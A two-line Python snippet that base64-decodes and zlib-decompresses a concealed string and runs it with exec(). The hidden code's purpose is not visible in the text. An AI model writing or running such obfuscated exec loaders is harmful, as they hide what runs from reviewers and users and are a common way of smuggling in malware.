import zlib, base64
exec(zlib.decompress(base64.b64decode(b'eJzLzC3ILypRyC/myi/WK64sLknN1VBKLi3KUdAtVsgoKSmw0tdPLcvM0UutSMwtyEnVr1CoUSjOUNLkAgBoxBPy')))
